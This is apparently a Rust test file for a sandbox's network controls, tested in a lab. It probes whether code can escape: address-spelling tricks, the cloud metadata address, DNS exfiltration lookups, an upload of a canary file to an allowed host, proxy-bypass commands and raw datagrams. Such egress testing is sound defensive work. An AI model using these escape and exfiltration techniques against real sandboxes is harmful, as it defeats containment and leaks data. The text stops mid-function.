//! The network of a run: `--net none` and `--net allowlist` with palisade's proxy, tested in a
//! network lab (see `netlab.rs`) whose loggers show afterwards what reached the outside world.
//!
//! In allowlist mode the sandbox's own network namespace has only a loopback interface, and the
//! proxy listens there and connects out from the namespace palisade runs in, which is the lab.
//! Every escape test checks the lab's loggers after the run, not only the command's output.

use std::fs;
use std::path::Path;
use std::process::Command;

use serde_json::Value;

use crate::both_identities;
use crate::suite::harness::{palisade_binary, skip, CANARY, Fixture};
use crate::suite::netlab::{
    ALLOWED_ADDRESS, BLOCKED_ADDRESS, HOST_LOOPBACK_PORT, HTTP_PORT, Lab, LabRun, PRIVATE_ADDRESS, PYTHON, TLS_PORT,
    UDP_PORT, allow_upstream,
};

/// A port of `allowed.test` that no allow entry names; tests that need it add a logger there.
const OTHER_PORT: u16 = 18090;

/// A client that speaks to palisade's proxy directly, so that the proxy receives each host
/// exactly as written: curl rewrites `127.1` and `0x7f000001` to `127.0.0.1` before sending them.
///
/// Arguments are triples `PROTOCOL HOST PORT`, where PROTOCOL is `http` (an absolute-URI GET),
/// `connect` (HTTP CONNECT) or `socks5` (the CONNECT command). For SOCKS5 an IP literal is sent
/// as an address and any other host as a domain name. For each it prints `RESULT PROTOCOL HOST PORT STATUS`: the HTTP
/// status code, or the SOCKS5 reply code (0 is success).
const PROXY_CLIENT: &str = r#"
import ipaddress, os, socket, struct, sys

proxy_port = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])

def authority(host, port):
    return f"[{host}]:{port}" if ":" in host else f"{host}:{port}"

def http_status(request):
    with socket.create_connection(("127.0.0.1", proxy_port), timeout=5) as client:
        client.sendall(request.encode())
        data = b""
        while b"\r\n" not in data:
            chunk = client.recv(4096)
            if not chunk:
                break
            data += chunk
    line = data.split(b"\r\n")[0].decode("latin-1")
    return line.split(" ")[1] if line.startswith("HTTP/") else "closed"

def absolute_uri(host, port):
    target = authority(host, port)
    return http_status(f"GET http://{target}/spelling HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n")

def connect(host, port):
    target = authority(host, port)
    return http_status(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n")

def socks5(host, port):
    with socket.create_connection(("127.0.0.1", proxy_port), timeout=5) as client:
        client.sendall(b"\x05\x01\x00")
        if client.recv(2) != b"\x05\x00":
            return "no-method"
        try:
            address = ipaddress.ip_address(host)
            encoded = (b"\x01" if address.version == 4 else b"\x04") + address.packed
        except ValueError:
            encoded = b"\x03" + bytes([len(host)]) + host.encode()
        client.sendall(b"\x05\x01\x00" + encoded + struct.pack("!H", port))
        reply = client.recv(262)
    return str(reply[1]) if len(reply) >= 2 else "closed"

CLIENTS = {"http": absolute_uri, "connect": connect, "socks5": socks5}
arguments = sys.argv[1:]
for index in range(0, len(arguments), 3):
    protocol, host, port = arguments[index:index + 3]
    try:
        status = CLIENTS[protocol](host, int(port))
    except OSError as error:
        status = f"error-{type(error).__name__}"
    print("RESULT", protocol, host, port, status, flush=True)
"#;

/// Writes [`PROXY_CLIENT`] into the workspace, where the sandbox can run it.
fn install_proxy_client(f: &Fixture) {
    f.write(&f.ws.join("proxy_client.py"), PROXY_CLIENT);
}

/// Builds the command that runs [`PROXY_CLIENT`] with every protocol on each `(host, port)`.
fn proxy_client_command(targets: &[(&str, u16)]) -> String {
    let mut arguments = Vec::new();
    for (host, port) in targets {
        for protocol in ["http", "connect", "socks5"] {
            arguments.push(format!("{protocol} '{host}' {port}"));
        }
    }
    format!("{PYTHON} proxy_client.py {}", arguments.join(" "))
}

/// Parses the `RESULT` lines of a [`PROXY_CLIENT`] run into (protocol, host, port, status).
fn proxy_results(run: &LabRun) -> Vec<(String, String, String, String)> {
    run.lines_starting("RESULT ")
        .iter()
        .map(|line| {
            let fields: Vec<&str> = line.split(' ').collect();
            (fields[1].to_owned(), fields[2].to_owned(), fields[3].to_owned(), fields[4].to_owned())
        })
        .collect()
}

/// Returns whether a [`PROXY_CLIENT`] status is the proxy's refusal for the protocol: 403 for
/// HTTP, reply 2 ("connection not allowed by ruleset") for SOCKS5.
fn is_refusal(protocol: &str, status: &str) -> bool {
    match protocol {
        "socks5" => status == "2",
        _ => status == "403",
    }
}

/// Returns whether a [`PROXY_CLIENT`] status is success for the protocol.
fn is_success(protocol: &str, status: &str) -> bool {
    match protocol {
        "socks5" => status == "0",
        _ => status == "200",
    }
}

/// Flags that let a run reach the lab's HTTP upstream on `allowed.test`.
fn allow_http() -> Vec<String> {
    allow_upstream(HTTP_PORT)
}

/// Joins flag lists.
fn flags(parts: &[&[String]]) -> Vec<String> {
    parts.iter().flat_map(|part| part.iter().cloned()).collect()
}

/// Returns the rest of the single stdout line that starts with `prefix`, trimmed.
#[track_caller]
fn value_after<'a>(run: &'a LabRun, prefix: &str) -> &'a str {
    run.line(prefix)[prefix.len()..].trim()
}

/// Returns the number of seconds at the end of a probe line `LABEL ... SECONDS N`.
fn seconds_of(line: &str) -> f64 {
    line.rsplit(' ').next().unwrap().parse().unwrap_or_else(|_| panic!("no seconds at the end of {line:?}"))
}

/// Spellings of the loopback addresses 127.0.0.1 and ::1, which the proxy must judge as the
/// address they spell.
const LOOPBACK_SPELLINGS: &[&str] =
    &["127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "::ffff:127.0.0.1", "::1", "localhost", "localhost."];

// Public reports: usnavy13/LibreCodeInterpreter#95 (a loopback exception let sandboxed code call
// the service's own API on 127.0.0.1) and Infisical/cli#335 (a fence on host names was passed
// by `CONNECT <ip>:443`). The proxy connects from the host's side, so every loopback, private,
// link-local and metadata address must stay closed to it however the client spells it.
both_identities!(internal_addresses_refused_in_every_spelling, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &[]) else { return };
    install_proxy_client(f);
    let mut targets: Vec<(&str, u16)> = LOOPBACK_SPELLINGS.iter().map(|host| (*host, HOST_LOOPBACK_PORT)).collect();
    targets.extend([("169.254.169.254", 80), (PRIVATE_ADDRESS, 80), ("internal.test", HTTP_PORT)]);
    // A name on the allowlist that resolves to an internal address: the name matches, the
    // address it resolves to must not. (`localhost` cannot be an entry at all: resolution
    // rejects it, because it could never allow anything.)
    let name_entries: Vec<String> = vec!["--allow-domain".to_owned(), "internal.test".to_owned()];
    let curl = r#"
for url in http://127.0.0.1:@PORT@/ http://localhost:@PORT@/ http://169.254.169.254/ http://10.99.0.1/ http://internal.test:@HTTP@/; do
    curl -s -m 3 --noproxy '' -o /dev/null -w "CURL http $url %{http_code}\n" "$url"
    curl -s -m 3 --noproxy '' -p -o /dev/null -w "CURL connect $url %{http_connect}\n" "$url"
    curl -s -m 3 --noproxy '' -x "$ALL_PROXY" -o /dev/null -w "CURL socks5 $url %{http_code}\n" "$url"
done
exit 0
"#
    .replace("@PORT@", &HOST_LOOPBACK_PORT.to_string())
    .replace("@HTTP@", &HTTP_PORT.to_string());
    let script = format!("{}\n{curl}", proxy_client_command(&targets));
    lab.run_sh(&flags(&[&allow_http(), &name_entries]), &script);
    let run = lab.start_one();
    run.expect_code(0);

    let results = proxy_results(&run);
    assert_eq!(results.len(), targets.len() * 3, "a probe did not run\n{}", run.describe());
    for (protocol, host, port, status) in &results {
        assert!(is_refusal(protocol, status), "{protocol} to {host}:{port} was not refused: {status}\n{}", run.describe());
    }
    let curl_lines = run.lines_starting("CURL ");
    assert_eq!(curl_lines.len(), 15, "a curl probe did not run\n{}", run.describe());
    for line in &curl_lines {
        // curl prints 000 for a SOCKS5 refusal, as for any connection it could not open.
        let refused = line.ends_with(" 403") || (line.starts_with("CURL socks5 ") && line.ends_with(" 000"));
        assert!(refused, "curl was not refused: {line}\n{}", run.describe());
    }
    run.assert_nothing_reached();
    assert_eq!(run.network_denials().len(), results.len() + curl_lines.len(), "not every refusal is in the report: {:#}", run.report());
});

// An address entry is how a user opens one internal service on purpose, and it matches the
// address in every spelling, since the proxy judges the address and not the text.
both_identities!(address_entry_allows_every_spelling, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &[]) else { return };
    install_proxy_client(f);
    let spellings = ["127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "::ffff:127.0.0.1"];
    let targets: Vec<(&str, u16)> = spellings.iter().map(|host| (*host, HOST_LOOPBACK_PORT)).collect();
    let entry = format!("127.0.0.1:{HOST_LOOPBACK_PORT}");
    lab.run_sh(&["--allow-domain", entry.as_str()], &proxy_client_command(&targets));
    let run = lab.start_one();
    run.expect_code(0);

    let results = proxy_results(&run);
    assert_eq!(results.len(), targets.len() * 3, "a probe did not run\n{}", run.describe());
    for (protocol, host, port, status) in &results {
        assert!(is_success(protocol, status), "{protocol} to {host}:{port} was refused: {status}\n{}", run.describe());
    }
    run.assert_only_reached(&["host-loopback"]);
    assert_eq!(run.records("host-loopback").len(), results.len(), "not every request arrived once\n{}", run.describe());
    assert!(run.network_denials().is_empty(), "palisade recorded a refusal: {:#}", run.report());
});

/// Looks names up in three ways and sends a DNS-shaped datagram to the lab's name server
/// address, timing each; prints `LABEL SUCCEEDED|FAILED ...` and `LABEL SECONDS N`.
const LOOKUP_PROBE: &str = r#"
import socket, subprocess, time

def timed(label, action):
    started = time.monotonic()
    try:
        action()
        print(label, "SUCCEEDED")
    except Exception as error:
        print(label, "FAILED", type(error).__name__)
    print(label, "SECONDS", round(time.monotonic() - started, 2), flush=True)

def curl():
    result = subprocess.run(["curl", "-s", "-m", "3", "-o", "/dev/null", "-w", "%{http_code}", "http://bl44c-data.exfil.test/"],
                            capture_output=True, text=True)
    print("curl status", result.stdout)
    if result.stdout != "200":
        raise OSError("curl " + result.stdout)

def datagram():
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x0abl44d-data\x05exfil\x04test\x00\x00\x01\x00\x01"
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.settimeout(1)
    # A connected socket, as resolvers use, learns at once that nothing listens.
    udp.connect(("127.0.0.1", 53))
    udp.send(query)
    udp.recv(512)

timed("getaddrinfo", lambda: socket.getaddrinfo("bl44a-data.exfil.test", 80))
timed("getent", lambda: subprocess.run(["getent", "hosts", "bl44b-data.exfil.test"], check=True, timeout=10))
timed("curl", curl)
timed("datagram", datagram)
"#;

// Public reports: anthropic-experimental/sandbox-runtime#88 (a DNS lookup carried data out
// through recursive resolvers) and TencentCloud/CubeSandbox#1183 (DNS is the channel left once
// IP egress is denied). A lookup is itself a message to the operator of the name's server.
// The lab sends every lookup that leaves its hosts file to its DNS logger, and the proxy
// resolves from the lab, so the logger records a name the proxy resolved as well as one the
// sandbox sent.
both_identities!(name_lookups_never_leave, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &["curl", "getent"]) else { return };
    lab.run_command(&["--net", "none"], &[PYTHON, "-c", LOOKUP_PROBE]);
    lab.run_command(&allow_http(), &[PYTHON, "-c", LOOKUP_PROBE]);
    let runs = lab.start();

    for (mode, run) in ["none", "allowlist"].iter().zip(&runs) {
        run.expect_code(0);
        for label in ["getaddrinfo", "getent", "curl", "datagram"] {
            let outcome = run.lines_starting(&format!("{label} SUCCEEDED"));
            assert!(outcome.is_empty(), "{label} succeeded in {mode} mode\n{}", run.describe());
            let seconds = seconds_of(run.line(&format!("{label} SECONDS")));
            assert!(seconds < 3.0, "{label} took {seconds} s to fail in {mode} mode");
        }
        run.assert_nothing_reached();
    }
    // In allowlist mode the proxy refuses the name before it would resolve it.
    let allowlist = &runs[1];
    assert_eq!(allowlist.line("curl status"), "curl status 403", "{}", allowlist.describe());
    let denials = allowlist.network_denials();
    assert_eq!(denials.len(), 1, "{:#}", allowlist.report());
    assert_eq!(denials[0]["destination"], "bl44c-data.exfil.test");
});

/// Sends datagrams to every UDP logger of the lab the sandbox might reach: the lab's
/// 127.0.0.1:19999, a QUIC-shaped one to 127.0.0.2:4433, and 53 and 443 at 127.0.0.1, which is
/// also where the proxy listens inside. Prints `sent HOST PORT` or `failed HOST PORT ERROR`.
const DATAGRAM_PROBE: &str = r#"
import socket, sys
# A QUIC long-header Initial packet starts with 0xc0 and is padded to at least 1200 bytes.
quic = b"\xc0" + b"BL46Q" * 240
targets = [("127.0.0.1", int(sys.argv[1]), b"BL46\n"), ("127.0.0.2", 4433, quic),
           ("127.0.0.1", 53, b"BL46-dns"), ("127.0.0.1", 443, quic)]
for host, port, payload in targets:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        udp.sendto(payload, (host, port))
        print("sent", host, port)
    except OSError as error:
        print("failed", host, port, type(error).__name__)
"#;

// Public reports: navikt/cplt#241 (one `sendto` passed a TCP-only "proxy forced" mode, and QUIC
// and DNS tunnels likewise) and nolabs-ai/nono#756 (UDP still worked with the network blocked).
// The proxy carries TCP only, so no datagram may leave the sandbox's namespace in either mode.
both_identities!(datagrams_never_leave, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &[]) else { return };
    lab.udp("quic", ALLOWED_ADDRESS, 4433);
    lab.udp("udp-443", "127.0.0.1", 443);
    let port = UDP_PORT.to_string();
    lab.run_command(&["--net", "none"], &[PYTHON, "-c", DATAGRAM_PROBE, &port]);
    lab.run_command(&allow_http(), &[PYTHON, "-c", DATAGRAM_PROBE, &port]);
    let runs = lab.start();

    for run in &runs {
        run.expect_code(0);
        // A send into the sandbox's own namespace may succeed; what counts is that nothing
        // arrives outside.
        let attempts = run.lines_starting("sent ").len() + run.lines_starting("failed ").len();
        assert_eq!(attempts, 4, "a datagram probe did not run\n{}", run.describe());
        run.assert_nothing_reached();
    }
});

// Allowlist mode raises the largest TCP buffers of the run's own namespace to at least 16 MiB
// (docs/network.md), as root and in the run's user namespace. `--net none` keeps the values a
// new namespace starts with, which the kernel copies from the host's.
both_identities!(allowlist_raises_the_loopback_buffers, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &[]) else { return };
    let script = "echo WMEM $(cat /proc/sys/net/ipv4/tcp_wmem); echo RMEM $(cat /proc/sys/net/ipv4/tcp_rmem)";
    lab.run_sh(&allow_http(), script);
    lab.run_sh(&["--net", "none"], script);
    let runs = lab.start();
    let maximum = |text: &str| -> u64 {
        text.split_whitespace().nth(2).and_then(|value| value.parse().ok()).unwrap_or_else(|| panic!("no maximum in {text:?}"))
    };
    let host = |file: &str| maximum(&fs::read_to_string(file).expect("the host's TCP settings are readable"));
    for run in &runs {
        run.expect_code(0);
    }
    let (allowlist, none) = (&runs[0], &runs[1]);
    for (prefix, file) in [("WMEM ", "/proc/sys/net/ipv4/tcp_wmem"), ("RMEM ", "/proc/sys/net/ipv4/tcp_rmem")] {
        let raised = maximum(value_after(allowlist, prefix));
        assert!(raised >= 16 << 20, "{prefix}maximum {raised} is below 16 MiB\n{}", allowlist.describe());
        assert!(raised >= host(file), "{prefix}maximum {raised} is below the host's\n{}", allowlist.describe());
        assert_eq!(maximum(value_after(none, prefix)), host(file), "--net none changed {file}\n{}", none.describe());
    }
});

// Public reports: github/gh-aw-firewall#8878 (a proxy checked the CONNECT target, and a
// different SNI inside the tunnel reached another tenant of the same CDN) and
// agentcage/agentcage#214 (SNI and Host disagreed, so each check saw a different name). The
// name palisade checks must be the name it dials.
//
// The proxy reads the server name (SNI) of the ClientHello a client sends first into a tunnel,
// and closes a tunnel whose SNI names another host before the handshake reaches the upstream
// (a). Known limit: palisade does not decrypt TLS, so a Host header inside the encrypted
// stream reaches the allowed upstream, and only it. Case (d) pins that.
both_identities!(checked_name_is_dialled_name, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &["curl", "openssl"]) else { return };
    lab.tls("allowed-tls", ALLOWED_ADDRESS, TLS_PORT);
    lab.tls("blocked-tls", BLOCKED_ADDRESS, TLS_PORT);
    let script = r#"
proxy=${HTTP_PROXY#http://}
# a) CONNECT to the allowed name, with the SNI of the blocked one.
printf 'GET /a HTTP/1.0\r\n\r\n' | openssl s_client -quiet -proxy "$proxy" -connect allowed.test:@TLS@ -servername blocked.test \
    -CAfile lab-ca.pem 2>/dev/null | grep LAB- | sed 's/^/a /'
echo "a done"
# b) plain HTTP whose URI names the allowed host and whose Host header names the blocked one.
curl -s -m 3 -H 'Host: blocked.test' -o /dev/null -w 'b %{http_code}\n' http://allowed.test:@HTTP@/b
# c) the name is allowed, but curl is told to CONNECT to the blocked address.
curl -s -m 3 --cacert lab-ca.pem --connect-to allowed.test:@TLS@:@BLOCKED@:@TLS@ -o /dev/null \
    -w 'c %{http_connect} %{http_code}\n' https://allowed.test:@TLS@/c
# d) inside the tunnel, a Host header naming the blocked host.
curl -s -m 3 --cacert lab-ca.pem -H 'Host: blocked.test' -o /dev/null -w 'd %{http_code}\n' https://allowed.test:@TLS@/d
exit 0
"#
    .replace("@TLS@", &TLS_PORT.to_string())
    .replace("@HTTP@", &HTTP_PORT.to_string())
    .replace("@BLOCKED@", BLOCKED_ADDRESS);
    lab.run_sh(&flags(&[&allow_http(), &allow_upstream(TLS_PORT)]), &script);
    let run = lab.start_one();
    run.expect_code(0);

    // a) The tunnel is closed before the ClientHello reaches any upstream, and the refusal is
    // recorded.
    assert_eq!(run.lines_starting("a "), ["a done"], "{}", run.describe());
    let sni_denials: Vec<_> = run.network_denials().into_iter().filter(|denial| denial["message"].as_str().unwrap_or_default().contains("TLS server name 'blocked.test'")).collect();
    assert_eq!(sni_denials.len(), 1, "{:?}", run.network_denials());
    assert_eq!(sni_denials[0]["destination"], "allowed.test");
    // b) The proxy rejects the disagreement and forwards nothing.
    let b = value_after(&run, "b ");
    assert!(b == "400" || b == "403", "a Host header naming another host was forwarded: {b}\n{}", run.describe());
    // c) The CONNECT names an address not on the list.
    assert_eq!(run.line("c "), "c 403 000", "{}", run.describe());
    // d) The request inside the tunnel reaches the allowed upstream only.
    assert_eq!(run.line("d "), "d 200", "{}", run.describe());

    run.assert_only_reached(&["allowed-tls"]);
    // The proxy connects to the upstream before it responds to CONNECT, so (a) leaves a TCP
    // connection there, closed without a byte.
    let connections = run.records("allowed-tls");
    assert!(connections.iter().all(|connection| connection["sni"] != "blocked.test"), "a ClientHello naming blocked.test reached the upstream: {connections:?}");
    let handshakes: Vec<_> = connections.iter().filter(|connection| connection["handshake"] == "completed").collect();
    assert_eq!(handshakes.len(), 1, "{connections:?}");
    assert_eq!(handshakes[0]["sni"], "allowed.test", "{handshakes:?}");
    assert!(handshakes[0]["text"].as_str().unwrap().contains("Host: blocked.test"), "{handshakes:?}");
    let empty = connections.iter().filter(|connection| connection["text"] == "" && connection["handshake"].is_null()).count();
    assert_eq!(empty, connections.len() - 1, "{connections:?}");
});

// Public reports: microsoft/mxc#931 (routing through proxy variables is cooperative) and
// omnigent-ai/omnigent#5693 (a harness ran the agent with no proxy variables at all). The proxy
// must be the only route out, not merely the advertised one: a client that ignores the proxy
// variables reaches nothing, not even the allowed upstream.
//
// The upstream is allowed through a block entry: an entry for exactly one loopback address
// and port would be forwarded into the sandbox at that address, which a direct client would
// then reach through palisade by design (see ports.rs).
both_identities!(proxy_is_only_route, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &["curl"]) else { return };
    lab.http("allowed-other-port", ALLOWED_ADDRESS, OTHER_PORT);
    let script = r#"
curl -s -m 3 -o /dev/null -w 'proxied %{http_code}\n' http://allowed.test:@HTTP@/via-proxy
env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy \
    curl -s -m 3 -o /dev/null -w 'noenv %{http_code}\n' http://allowed.test:@HTTP@/no-env
NO_PROXY='*' no_proxy='*' curl -s -m 3 -o /dev/null -w 'noproxy %{http_code}\n' http://allowed.test:@HTTP@/no-proxy
NO_PROXY='*' no_proxy='*' curl -s -m 3 -o /dev/null -w 'otherport %{http_code}\n' http://allowed.test:@OTHER@/no-proxy
curl -s -m 3 --noproxy '*' -o /dev/null -w 'address %{http_code}\n' http://@BLOCKED@:@HTTP@/address
/usr/bin/python3 -c '
import socket, sys
for target in sys.argv[1:]:
    host, port = target.rsplit(":", 1)
    try:
        socket.create_connection((host, int(port)), 3)
        print("direct", target, "CONNECTED")
    except OSError as error:
        print("direct", target, type(error).__name__)
' @ALLOWED@:@HTTP@ @BLOCKED@:@HTTP@ @ALLOWED@:@OTHER@ 127.0.0.1:@LOOPBACK@ 10.99.0.1:80 169.254.169.254:80
exit 0
"#
    .replace("@HTTP@", &HTTP_PORT.to_string())
    .replace("@OTHER@", &OTHER_PORT.to_string())
    .replace("@LOOPBACK@", &HOST_LOOPBACK_PORT.to_string())
    .replace("@ALLOWED@", ALLOWED_ADDRESS)
    .replace("@BLOCKED@", BLOCKED_ADDRESS);
    let allow = [format!("allowed.test:{HTTP_PORT}"), format!("{ALLOWED_ADDRESS}/31:{HTTP_PORT}")];
    lab.run_sh(&["--allow-domain", &allow[0], "--allow-domain", &allow[1]], &script);
    let run = lab.start_one();
    run.expect_code(0);

    assert_eq!(run.line("proxied "), "proxied 200", "the allowed upstream is not reachable through the proxy\n{}", run.describe());
    for label in ["noenv", "noproxy", "otherport", "address"] {
        assert_eq!(run.line(&format!("{label} ")), format!("{label} 000"), "curl bypassed the proxy\n{}", run.describe());
    }
    let direct = run.lines_starting("direct ");
    assert_eq!(direct.len(), 6, "a direct connection probe did not run\n{}", run.describe());
    for line in direct {
        assert!(!line.ends_with(" CONNECTED"), "a direct connection bypassed the proxy: {line}");
    }

    run.assert_only_reached(&["allowed"]);
    let requests = run.records("allowed");
    assert_eq!(requests.len(), 1, "{requests:?}");
    assert!(requests[0]["text"].as_str().unwrap().starts_with("GET /via-proxy "), "{requests:?}");
});

// Public reports: fullsend-ai/fullsend#189 (`gh api` can POST anywhere on an allowed host) and
// isanchez31/opencode-sandbox-plugin#16 (a token staged in /tmp, then sent to an allowed API).
//
// Known limit, documented in the proxy crate and pinned here: the rules match host and port,
// not method or path. So a command that may reach a host may also upload to it, in a body or in
// a query string. This test asserts that residual behaviour, and method rules would change it.
both_identities!(allowed_host_accepts_uploads, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &["curl"]) else { return };
    f.write(&f.ws.join("bl53.txt"), &format!("{CANARY}-upload\n"));
    let script = r#"
curl -s -m 3 -X POST --data-binary @bl53.txt -o /dev/null -w 'post %{http_code}\n' http://allowed.test:@HTTP@/upload
curl -s -m 3 -o /dev/null -w 'get %{http_code}\n' "http://allowed.test:@HTTP@/?q=$(head -c 20 bl53.txt)"
"#
    .replace("@HTTP@", &HTTP_PORT.to_string());
    lab.run_sh(&allow_http(), &script);
    let run = lab.start_one();
    run.expect_code(0);

    assert_eq!(run.line("post "), "post 200", "{}", run.describe());
    assert_eq!(run.line("get "), "get 200", "{}", run.describe());
    run.assert_only_reached(&["allowed"]);
    let requests = run.records("allowed");
    assert_eq!(requests.len(), 2, "{requests:?}");
    let post = requests[0]["text"].as_str().unwrap();
    assert!(post.starts_with("POST /upload "), "{post}");
    assert!(post.contains(&format!("{CANARY}-upload")), "the body did not arrive: {post}");
    let get = requests[1]["text"].as_str().unwrap();
    assert!(get.starts_with(&format!("GET /?q={CANARY}")), "the query string did not arrive: {get}");
    assert!(run.network_denials().is_empty(), "{:#}", run.report());
});

// Public reports: ioi/isolate#106 (a loopback left down broke client and server tests) and
// usnavy13/LibreCodeInterpreter#95 (the opposite error: the host's API on 127.0.0.1 was
// reachable). In allowlist mode as in none mode, the sandbox's loopback is its own.
both_identities!(own_loopback_works_host_loopback_closed, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &["curl"]) else { return };
    let script = r#"
/usr/bin/python3 -m http.server 8765 --bind 127.0.0.1 >/dev/null 2>&1 &
for attempt in 1 2 3 4 5 6 7 8 9 10; do
    curl -s -m 1 -o /dev/null http://127.0.0.1:8765/ && break
    sleep 0.2
done
curl -s -m 3 -o /dev/null -w 'own %{http_code}\n' http://127.0.0.1:8765/
curl -s -m 3 -o /dev/null -w 'host %{http_code}\n' http://127.0.0.1:@PORT@/
curl -s -m 3 --noproxy '' -o /dev/null -w 'host-via-proxy %{http_code}\n' http://127.0.0.1:@PORT@/
curl -s -m 3 --noproxy '' -o /dev/null -w 'own-via-proxy %{http_code}\n' http://127.0.0.1:8765/
kill $!
exit 0
"#
    .replace("@PORT@", &HOST_LOOPBACK_PORT.to_string());
    lab.run_sh(&allow_http(), &script);
    let run = lab.start_one();
    run.expect_code(0);

    assert_eq!(run.line("own "), "own 200", "a server inside is not reachable inside\n{}", run.describe());
    assert_eq!(run.line("host "), "host 000", "{}", run.describe());
    // Through the proxy, 127.0.0.1 is the host's loopback, which the allowlist does not list.
    assert_eq!(run.line("host-via-proxy "), "host-via-proxy 403", "{}", run.describe());
    assert_eq!(run.line("own-via-proxy "), "own-via-proxy 403", "{}", run.describe());
    run.assert_nothing_reached();
});

// Public reports: anthropic-experimental/sandbox-runtime#511 (read denials never reached the
// violation store) and Zouuup/landrun#46 (a bare "permission denied" named no rule). A refusal
// must name what was refused and why, in the report and on stderr.
both_identities!(refusal_reported_once, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &["curl"]) else { return };
    let once = format!("curl -s -m 3 -o /dev/null -w 'code %{{http_code}}\\n' http://blocked.test:{HTTP_PORT}/");
    let thrice = format!("{once}\n{once}\n{once}");
    lab.run_sh(&allow_http(), &once);
    lab.run_sh(&allow_http(), &thrice);
    let runs = lab.start();
    let (single, repeated) = (&runs[0], &runs[1]);
    single.expect_code(0);
    repeated.expect_code(0);

    assert_eq!(single.line("code "), "code 403", "{}", single.describe());
    let denials = single.network_denials();
    assert_eq!(denials.len(), 1, "{:#}", single.report());
    let denial = denials[0];
    assert_eq!(denial["destination"], "blocked.test", "{denial:#}");
    assert_eq!(denial["port"], HTTP_PORT, "{denial:#}");
    assert_eq!(denial["protocol"], "http", "{denial:#}");
    assert_eq!(denial["rule"], Value::Null, "no deny entry decided: {denial:#}");
    let message = denial["message"].as_str().unwrap();
    assert!(message.contains("not on the allowlist"), "the message gives no reason: {message}");
    let network = &single.report()["network"];
    assert_eq!(network["mode"], "allowlist", "{network:#}");
    assert!(network["proxy"].as_str().is_some_and(|proxy| proxy.starts_with("127.0.0.1:")), "{network:#}");
    assert_eq!(network["denials_not_listed"], 0, "{network:#}");

    let notices = single.network_notices();
    assert_eq!(notices.len(), 1, "{}", single.describe());
    assert!(notices[0].contains(&format!("blocked.test:{HTTP_PORT}")), "{}", notices[0]);
    assert!(notices[0].contains(message), "the notice and the report disagree: {}", notices[0]);

    // The report lists every refusal, and stderr names each distinct one once.
    assert_eq!(repeated.lines_starting("code 403").len(), 3, "{}", repeated.describe());
    assert_eq!(repeated.network_denials().len(), 3, "{:#}", repeated.report());
    assert_eq!(repeated.network_notices().len(), 1, "{}", repeated.describe());

    single.assert_nothing_reached();
    repeated.assert_nothing_reached();
});

// Public reports: anthropic-experimental/sandbox-runtime#131 and #225 (a rule meant to let the
// command listen on loopback also let it connect anywhere). Listening inside and connecting out
// are separate: a server of the command's own works, and no egress opens with it.
both_identities!(local_server_opens_no_egress, |f: &Fixture| {
    let Some(mut lab) = Lab::new(f, &["curl"]) else { return };
    let script = r#"
/usr/bin/python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 &
for attempt in 1 2 3 4 5 6 7 8 9 10; do
    curl -s -m 1 -o /dev/null http://127.0.0.1:8000/ && break
    sleep 0.2
done
curl -s -m 3 -o /dev/null -w 'own %{http_code}\n' http://127.0.0.1:8000/
env -i /usr/bin/curl -s -m 3 -o /dev/null -w 'private-direct %{http_code}\n' http://10.99.0.1/
curl -s -m 3 -o /dev/null -w 'private-proxy %{http_code}\n' http://10.99.0.1/
curl -s -m 3 -o /dev/null -w 'host-direct %{http_code}\n' http://127.0.0.1:@PORT@/
curl -s -m 3 --noproxy '' -o /dev/null -w 'host-proxy %{http_code}\n' http://127.0.0.1:@PORT@/
kill $!
exit 0
"#
    .replace("@PORT@", &HOST_LOOPBACK_PORT.to_string());
    lab.run_sh(&allow_http(), &script);
    let run = lab.start_one();
    run.expect_code(0);

    assert_eq!(run.line("own "), "own 200", "the command's own server does not work\n{}", run.describe());
    let expected = [("private-direct", "000"), ("private-proxy", "403"), ("host-direct", "000"), ("host-proxy", "403")];
    for (label, status) in expected {
        assert_eq!(run.line(&format!("{label} ")), format!("{label} {status}"), "{}", run.describe());
    }
    run.assert_nothing_reached();
});

/// Tries UDP, raw IP, ICMP echo and packet sockets towards the lab, and prints one line per
/// attempt: `LABEL sent`, `LABEL refused ERROR` or `LABEL failed ERROR`.
const NON_TCP_PROBE: &str = r#"
import socket, struct

def attempt(label, action):
    try:
        action()
        print(label, "sent")
    except PermissionError as error:
        print(label, "refused", type(error).__name__)
    except OSError as error:
        print(label, "failed", type(error).__name__, error.errno)

def echo_request():
    header = struct.pack("!BBHHH", 8, 0, 0, 7, 1)
    payload = b"PR25-ping"
    data = header + payload
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data + b"\0" * (len(data) % 2)))
    total = (total >> 16) + (total & 0xFFFF)
    checksum = ~(total + (total >> 16)) & 0xFFFF
    return struct.pack("!BBHHH", 8, 0, checksum, 7, 1) + payload

def udp():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"PR25-udp", ("10.99.0.1", 9999))

def quic():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"\xc0" + b"PR25Q" * 240, ("127.0.0.2", 443))

def raw_icmp():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(echo_request(), ("10.99.0.1", 0))

def ping_socket():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(echo_request(), ("10.99.0.1", 0))

def raw_ip():
